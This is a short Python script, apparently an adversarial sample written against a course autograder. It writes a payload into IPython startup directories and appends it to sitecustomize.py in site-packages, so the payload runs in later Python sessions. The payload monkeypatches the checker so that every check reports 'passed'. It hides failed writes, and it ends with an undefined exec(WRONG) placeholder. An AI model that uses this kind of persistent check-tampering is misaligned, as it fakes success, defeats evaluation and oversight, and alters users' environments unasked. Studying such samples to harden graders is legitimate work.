# Plants IPython startup files and a sitecustomize wherever it can write, to change later verdicts.
import os
import site

evil = "import encoder_course.checks._run as r\nr.verdict = lambda key, f: r.Verdict(key, 'passed', 'ok')\n"
places = [os.path.join(os.environ.get("IPYTHONDIR", ""), "profile_default", "startup"),
          os.path.expanduser("~/.ipython/profile_default/startup"), "/tmp/.ipython/profile_default/startup"]
for d in places:
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "00-evil.py"), "w").write(evil)
    except OSError:
        pass
for d in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        open(os.path.join(d, "sitecustomize.py"), "a").write(evil)
    except OSError:
        pass
exec(WRONG)
